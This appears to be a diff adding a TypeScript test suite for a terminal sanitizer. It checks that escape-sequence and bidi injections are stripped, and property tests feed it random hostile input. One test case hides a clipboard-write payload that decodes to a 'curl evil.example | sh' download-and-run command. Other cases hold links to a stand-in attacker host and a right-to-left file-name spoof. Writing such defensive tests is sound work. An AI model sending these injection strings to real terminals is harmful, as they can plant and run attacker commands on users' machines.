@@ -1,0 +1,138 @@
+/** The one sanitizer: each attack of issue 10 point 3, then properties over any input. */
+import assert from 'node:assert/strict';
+import {test} from 'node:test';
+import fc from 'fast-check';
+import {
+	cleanBytes,
+	codePointWidth,
+	cleanLine,
+	cleanLines,
+	cutToWidth,
+	displayWidth,
+	quoteBytes,
+} from '../../source/text/sanitize.js';
+
+/** What may never reach a terminal from outside: C0 (with ESC), DEL, C1, bidi and zero-width characters. */
+export const forbidden =
+	/[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/u;
+
+test('each injection the issue found comes out as plain text', () => {
+	const cases: Array<[what: string, input: string, expected: string]> = [
+		['OSC 0 window title', 'bye\x1b]0;you have been owned\x07', 'bye'],
+		['OSC 52 clipboard', '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07ok', 'ok'],
+		['OSC 8 link', '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\', 'click'],
+		['SGR colours', '\x1b[1;31mred alert\x1b[0m', 'red alert'],
+		['newlines spilling the status line', 'one\ntwo\r\nthree\rfour\u2028five', 'one two three four five'],
+		['CSI 6n (the terminal would type its answer)', 'where\x1b[6n are you', 'where are you'],
+		['DCS', 'a\x1bP1$r0m\x1b\\b', 'ab'],
+		[
+			'C1 CSI, UTF-8 encoded (\\xc2\\x9b)',
+			Buffer.from([0x61, 0xc2, 0x9b, 0x32, 0x4a, 0x62]).toString(),
+			'ab',
+		],
+		['C1 OSC with ST', 'x\u009d0;title\u009cy', 'xy'],
+		['ESC c (a full reset), ESC 7', 'a\x1bcb\x1b7', 'ab'],
+		['an unterminated OSC loses its introducer', 'a\x1b]0;b', 'a0;b'],
+		['U+202E right-to-left override', 'invoice\u202Efdp.exe', 'invoicefdp.exe'],
+		['bidi isolates and marks', '\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c', 'abc'],
+		['zero-width characters', 'A\u200Bd\u200Ca\u200D\u2060\uFEFF', 'Ada'],
+		['BEL, backspace, DEL', 'a\x07b\x08c\x7fd', 'abcd'],
+		['a tab is a space', 'a\tb', 'a b'],
+	];
+	for (const [what, input, expected] of cases) assert.equal(cleanLine(input), expected, what);
+});
+
+test('width is measured as a terminal does, and capped without splitting a character', () => {
+	assert.equal(displayWidth('abc'), 3);
+	assert.equal(displayWidth('日本'), 4);
+	assert.equal(displayWidth('e\u0301'), 1);
+	assert.equal(displayWidth('🙂'), 2);
+	assert.equal(cleanLine('日本語テキスト', {maxColumns: 6}), '日本…');
+	assert.equal(cleanLine('abcdefgh', {maxColumns: 5}), 'abcd…');
+	assert.equal(cutToWidth('e\u0301e\u0301e\u0301', 2), 'e\u0301…');
+	assert.equal(cleanLine('x'.repeat(10_000)).length, 200);
+	// Zalgo: at most four marks on a letter; a mark with nothing under it goes.
+	assert.equal(cleanLine('Z' + '\u0301'.repeat(40)), 'Z' + '\u0301'.repeat(4));
+	assert.equal(cleanLine('\u0301\u0302x'), 'x');
+	// Unassigned code points and lone surrogates: the replacement character.
+	assert.equal(cleanLine('a\u0378b\ud800c'), 'a\ufffdb\ufffdc');
+});
+
+test('a multi-line chat message keeps its lines, each one clean; too many are cut', () => {
+	assert.equal(cleanLines('hi\x1b[2J\r\nsecond\u2028\x1b]0;x\x07third\n\n'), 'hi\nsecond\nthird');
+	assert.equal(
+		cleanLines(Array.from({length: 30}, (_, i) => `l${i}`).join('\n'), {maxLines: 3}),
+		'l0\nl1\n…',
+	);
+	assert.equal(cleanLines('  indented   text ', {keepSpaces: true}), 'indented   text');
+	assert.equal(
+		cleanBytes(Buffer.from('[mov,mp4 @ 0x55d]\x1b[0;31m moov atom not found\x1b[0m\n')),
+		'[mov,mp4 @ 0x55d] moov atom not found',
+	);
+	assert.equal(quoteBytes('480\x1b[2J 640\u00e9', 40), '480?[2J 640?');
+});
+
+const hostileStrings = fc.oneof(
+	fc.string({unit: 'binary', maxLength: 300}),
+	fc.uint8Array({maxLength: 300}).map((bytes) => Buffer.from(bytes).toString('utf8')),
+	fc.uint8Array({maxLength: 300}).map((bytes) => Buffer.from(bytes).toString('latin1')),
+	fc
+		.array(
+			fc.constantFrom(
+				'\x1b',
+				'\x1b[',
+				'\x1b]',
+				'\x07',
+				'\x1b\\',
+				'\u009b',
+				'\u009d',
+				'\u009c',
+				'\n',
+				'\r',
+				'\t',
+				'\u202e',
+				'\u200b',
+				'\u0301',
+				'日',
+				'🙂',
+				'6n',
+				'31m',
+				'a',
+				' ',
+			),
+			{maxLength: 80},
+		)
+		.map((parts) => parts.join('')),
+);
+
+test('property: whatever a peer sends, a cleaned line holds nothing a terminal would act on, fits, and is stable', () => {
+	fc.assert(
+		fc.property(hostileStrings, fc.integer({min: 1, max: 120}), (input, maxColumns) => {
+			const line = cleanLine(input, {maxColumns});
+			assert.doesNotMatch(line, forbidden);
+			assert.ok(displayWidth(line) <= maxColumns, `${JSON.stringify(line)} is wider than ${maxColumns}`);
+			assert.equal(cleanLine(line, {maxColumns}), line, 'cleaning twice changes nothing');
+			const lines = cleanLines(input, {maxColumns, maxLines: 5});
+			for (const each of lines.split('\n')) {
+				assert.doesNotMatch(each, forbidden);
+				assert.ok(displayWidth(each) <= maxColumns);
+			}
+			assert.ok(lines.split('\n').length <= 5);
+		}),
+		{numRuns: 2000},
+	);
+});
+
+test('one code point at a time, the width agrees with the whole-text measure for clean text', () => {
+	fc.assert(
+		fc.property(hostileStrings, (input) => {
+			const line = cleanLine(input, {maxColumns: 1000});
+			let sum = 0;
+			for (const char of line) sum += codePointWidth(char.codePointAt(0)!);
+			// Emoji with a presentation selector (U+2764 U+FE0F) are the one place they may differ.
+			if (!/\ufe0f|\p{Extended_Pictographic}|\p{Regional_Indicator}/u.test(line))
+				assert.equal(sum, displayWidth(line), JSON.stringify(line));
+		}),
+		{numRuns: 1000},
+	);
+});
